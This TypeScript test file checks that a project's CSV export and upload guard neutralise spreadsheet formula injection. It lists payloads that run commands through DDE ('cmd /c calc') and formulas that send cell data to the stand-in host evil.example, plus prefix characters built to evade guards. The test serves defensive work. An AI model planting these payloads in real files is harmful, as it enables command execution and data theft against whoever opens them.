import { csvDocument, guardCsv } from '../../../engine/formats/csv.ts';
import { type HostileClass, type HostileInput, numbered } from '../support/hostile-input.ts';

type Case = Omit<HostileInput, 'id'>;

/** What a spreadsheet runs when a cell begins with it. */
const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("http://evil.example?"&A1)',
  '=WEBSERVICE("http://evil.example")',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '=IMPORTXML("http://evil.example","//a")',
  '=DDE("cmd";"/c calc";"x")',
  "-2+3+cmd|'/c calc'!A0",
];
/** What stands before it, so that a guard at the first sign does not see it. */
const before = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\0',
  ';',
  'x;',
  'x\t',
  'x\n',
  'x\r',
  '"',
  '"";',
  ' ;',
  '\u00a0',
  '\ufeff',
  'x;"',
  'x\n "',
  '\u3000',
];

/** The cells of a document as a reader with this separator takes them: a quote counts where a cell begins with it. */
function cellsOf(document: string, separator: string): readonly string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < document.length; at += 1) {
    const sign = document.charAt(at);
    if (quoted && sign === '"' && document.charAt(at + 1) === '"') at += 1;
    else if (sign === '"' && (quoted || cell === '')) {
      quoted = !quoted;
      continue;
    }
    if (!quoted && (sign === separator || sign === '\n' || sign === '\r')) {
      cells.push(cell);
      cell = '';
    } else cell += sign;
  }
  return [...cells, cell];
}

/** A reader that knows no quotes takes every separator for one. */
function bareCellsOf(document: string): readonly string[] {
  return document.split(/[,;\t\r\n\0]/).map((cell) => cell.trim());
}

const runs = /^[\s\0\ufeff]*[=+\-@＝＋－＠]/;
const isNumber = /^\s*[+-]?\d+(\.\d+)?%?\s*$/;

function formulaIn(document: string): string | undefined {
  const all = [',', ';', '\t'].flatMap((separator) => cellsOf(document, separator));
  const found = [...all, ...bareCellsOf(document)].find((cell) => runs.test(cell) && !isNumber.test(cell));
  return found === undefined ? undefined : `a spreadsheet runs ${JSON.stringify(found.slice(0, 40))}`;
}

function makes(tries: string, by: Case['by'], make: () => string): Case {
  return {
    tries,
    by,
    wants: 'harmless',
    attack: () => ({ refused: false, says: make() }),
    harm: (outcome) => ('says' in outcome ? formulaIn(outcome.says) : undefined),
  };
}

export const hostileClass: HostileClass = {
  name: 'cells of CSV',
  inputs: () => {
    const texts = before.flatMap((start) => payloads.map((payload) => `${start}${payload}`));
    return [
      ...numbered(
        'cell',
        texts.map((text) =>
          makes(`to leave ${JSON.stringify(text)} in an export`, 'applicant', () =>
            csvDocument(['name', 'note'], [['Sana', text]]),
          ),
        ),
      ),
      ...numbered(
        'column',
        payloads.map((text) => makes(`to name a column ${text}`, 'designer', () => csvDocument([text, 'b'], [[1, 2]]))),
      ),
      ...numbered(
        'upload',
        texts.map((text) =>
          makes(`to hand on a file with ${JSON.stringify(text)}`, 'agent', () =>
            guardCsv(`name,note\r\nSana,${text}\r\n`),
          ),
        ),
      ),
    ];
  },
};
